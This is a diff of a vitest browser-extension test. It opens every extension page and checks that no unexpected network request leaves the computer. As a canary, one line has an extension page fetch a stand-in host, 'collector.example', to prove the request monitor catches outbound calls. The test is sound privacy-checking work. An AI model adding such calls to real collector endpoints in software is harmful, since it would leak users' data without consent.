@@ -2,10 +2,16 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { csv } from '../../utils/exchange/csv/csv.ts';
 import { exportFile } from '../../utils/exchange/file.ts';
 import { ndjson } from '../../utils/exchange/ndjson/ndjson.ts';
+import { wordsIn } from '../../utils/settings/words.ts';
+import { bringPageWords } from '../../utils/settings/words/pages.ts';
 import { readTables } from '../tools/tables.ts';
+import { press } from './dashboard.ts';
 import { hiding } from './hiding.ts';
 import { shop } from './shop.ts';
 import { BROWSERS, openStage, type Stage } from './stage.ts';
+
+bringPageWords();
+const say = wordsIn('zh');
 
 interface Extension {
   readonly storage: { readonly local: { readonly get: (keys: null) => Promise<unknown> } };
@@ -21,6 +27,18 @@ const secrets = Object.values({ ...identities })
 /** What browsers ask for by themselves, whatever is installed: their makers' servers and a site's icon. */
 const BROWSERS_OWN =
   /^[^/]*\b(?:mozilla\.(?:org|com|net)|mozgcp\.net|firefox\.com|google(?:apis)?\.com|gstatic\.com|gvt1\.com)(?::\d+)?\/|\/favicon\.ico$/;
+
+const PLACES = [
+  '#/live',
+  '#/products',
+  '#/review',
+  '#/compare',
+  '#/orders',
+  '#/platforms',
+  '#/definitions',
+  '#/data',
+  '#/settings',
+];
 
 for (const browser of BROWSERS) {
   describe(`what the extension keeps of a generated broadcast, in ${browser}`, () => {
@@ -42,12 +60,25 @@ for (const browser of BROWSERS) {
     });
     afterAll(() => stage.close());
 
-    it('sends nothing anywhere: every request on this computer is one that the captured pages made', async () => {
+    it('sends nothing anywhere, whatever is opened: every request is one that the captured pages made', async () => {
+      const { reader } = stage;
+      await reader.bringToFront();
+      const [{ key } = expect.unreachable()] = await stage.broadcasts();
+      for (const hash of [...PLACES, `#/broadcast/${encodeURIComponent(key)}`, '#/welcome']) {
+        await reader.evaluate((place) => {
+          location.hash = place;
+        }, hash);
+        await reader.waitForSelector('main h1');
+      }
+      await press(reader, say('welcome.tryStart'));
+      await reader.waitForSelector('.welcome-figures');
+      for (const name of ['monitor', 'popup'])
+        await (await stage.opened.extensionPage(`${name}.html`)).close();
       const others = (): readonly string[] =>
         stage.rooms.strange().filter((name) => !BROWSERS_OWN.test(name));
       expect(others()).toEqual([]);
       // It would be seen: a page of the extension that asks for anything is.
-      await stage.reader.evaluate(() => fetch('https://collector.example/?a=1').catch(() => null));
+      await reader.evaluate(() => fetch('https://collector.example/?a=1').catch(() => null));
       expect(others()).toEqual(['collector.example/?a=1']);
     });
 
